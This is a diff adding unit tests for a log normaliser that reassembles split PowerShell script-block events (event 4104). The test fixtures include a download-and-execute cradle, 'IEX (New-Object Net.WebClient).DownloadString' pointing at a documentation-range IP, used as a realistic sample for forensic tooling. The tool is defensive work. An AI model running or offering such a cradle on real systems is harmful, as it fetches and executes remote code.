@@ -9,7 +9,7 @@ import { fieldCase, fieldCasesSkipReason, hasFieldCases } from '../../test/paths
 import type { WinEvent } from '../formats/windows/event.ts';
 import { readWinExport } from '../formats/winexport/reader.ts';
 import { normalizeWindows } from './windows.ts';
-import { reassembleScriptBlocks } from './windows-powershell.ts';
+import { reassembleScriptBlocks, ScriptBlockJoiner } from './windows-powershell.ts';
 
 const NS = "xmlns='http://schemas.microsoft.com/win/2004/08/events/event'";
 
@@ -223,7 +223,10 @@ describe('normalizeWindows', () => {
     );
     expect(unified.category).toBe('script');
     expect(unified.file_path).toBeNull();
-    expect(unified.message).toBe('Script block (part 2 of 3, id 3f1c2d9e-7b55-4a0e-9d7e-5c2b8a1f0e11): X (New-Object Net.WebC');
+    // The message keeps the start of the script, line breaks shown as \n, so the free-text search finds it.
+    expect(unified.message).toBe(
+      'Script block (part 2 of 3, id 3f1c2d9e-7b55-4a0e-9d7e-5c2b8a1f0e11): X (New-Object Net.WebC\\nsecond line',
+    );
   });
 
   it('maps a classic 400 from its unnamed data', () => {
@@ -302,6 +305,83 @@ describe('reassembleScriptBlocks', () => {
     expect(second).toMatchObject({ scriptBlockId: 'bbbb', total: 2, missing: [1], complete: false });
     expect(second.text).toBe('\n<# part 1 of 2 missing #>\nommand -Raw | Out-Null');
     expect(other).toMatchObject({ computer: 'OTHER-HOST', scriptBlockId: 'aaaa', complete: true, text: 'Get-Date' });
+  });
+});
+
+describe('ScriptBlockJoiner', () => {
+  const part = (record: number, id: string, number: number, total: number, text: string) =>
+    JSON.stringify({
+      Event: {
+        System: {
+          Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell' } },
+          EventID: 4104,
+          TimeCreated: { '#attributes': { SystemTime: `2024-03-01T10:20:0${number}.4410000Z` } },
+          EventRecordID: record,
+          Channel: 'Microsoft-Windows-PowerShell/Operational',
+          Computer: 'WKS01.corp.example',
+        },
+        EventData: { MessageNumber: number, MessageTotal: total, ScriptBlockText: text, ScriptBlockId: id, Path: 'C:\\t\\a.ps1' },
+      },
+    });
+  const other = JSON.stringify({
+    Event: {
+      System: { Provider: { '#attributes': { Name: 'X' } }, EventID: 1, EventRecordID: 2000, Channel: 'Application', Computer: 'WKS01' },
+    },
+  });
+
+  it('holds parts until the block is whole', () => {
+    const events = readWinExport(
+      [
+        part(1002, 'aaaa', 2, 3, 'X (New-Object Net.WebC'),
+        other,
+        part(1001, 'aaaa', 1, 3, "$u='http://192.0.2.7/a.ps1'\n$x=1; IE"),
+        part(1003, 'aaaa', 3, 3, 'lient).DownloadString($u)'),
+      ].join('\n'),
+    ).events;
+    const joiner = new ScriptBlockJoiner();
+    expect(joiner.push(events[0]!)).toEqual([]);
+    expect(joiner.push(events[1]!)).toEqual([{ event: events[1] }]);
+    expect(joiner.push(events[2]!)).toEqual([]);
+    const released = joiner.push(events[3]!);
+    expect(released.map((joined) => joined.event.system.recordId)).toEqual([1002n, 1001n, 1003n]);
+    const carrier = released[1]!.scriptBlock!;
+    expect(carrier.text).toBe("$u='http://192.0.2.7/a.ps1'\n$x=1; IEX (New-Object Net.WebClient).DownloadString($u)");
+    expect(carrier.parts.map((p) => p.recordId)).toEqual(['1001', '1002', '1003']);
+    expect(released[0]!.scriptBlock!.text).toBeUndefined();
+    expect(released[2]!.scriptBlock!.complete).toBe(true);
+    expect(joiner.end()).toEqual([]);
+  });
+
+  it('releases an incomplete block at the end', () => {
+    const events = readWinExport(
+      [part(1004, 'bbbb', 2, 2, 'ommand -Raw | Out-Null'), part(1005, 'cccc', 1, 1, 'Get-Date')].join('\n'),
+    ).events;
+    const joiner = new ScriptBlockJoiner();
+    expect(joiner.push(events[0]!)).toEqual([]);
+    expect(joiner.push(events[1]!)).toEqual([{ event: events[1] }]);
+    const [only] = joiner.end();
+    expect(only!.scriptBlock).toMatchObject({ id: 'bbbb', total: 2, missing: [1], complete: false });
+    expect(only!.scriptBlock!.text).toBe('\n<# part 1 of 2 missing #>\nommand -Raw | Out-Null');
+  });
+
+  it('stores the whole script in the first part', () => {
+    const events = readWinExport(
+      [part(1001, 'aaaa', 1, 2, 'Invoke-Web'), part(1002, 'aaaa', 2, 2, "Request -Uri 'http://192.0.2.7/x'")].join('\n'),
+    ).events;
+    const joiner = new ScriptBlockJoiner();
+    const joined = [...joiner.push(events[0]!), ...joiner.push(events[1]!)];
+    const [first, second] = joined.map(({ event, scriptBlock }) => normalizeWindows(event, scriptBlock ? { scriptBlock } : {}));
+    expect(first!.message).toBe("Script block (part 1 of 2, id aaaa, reassembled): Invoke-WebRequest -Uri 'http://192.0.2.7/x'");
+    expect(second!.message).toBe("Script block (part 2 of 2, id aaaa): Request -Uri 'http://192.0.2.7/x'");
+    const firstData = JSON.parse(first!.data);
+    expect(firstData.ScriptBlock.Text).toBe("Invoke-WebRequest -Uri 'http://192.0.2.7/x'");
+    expect(firstData.ScriptBlock.Parts).toEqual([
+      { Number: 1, EventRecordID: '1001', Locator: 'line=1' },
+      { Number: 2, EventRecordID: '1002', Locator: 'line=2' },
+    ]);
+    const secondData = JSON.parse(second!.data);
+    expect(secondData.ScriptBlock.Text).toBeUndefined();
+    expect(secondData.ScriptBlock.Id).toBe('aaaa');
   });
 });
 
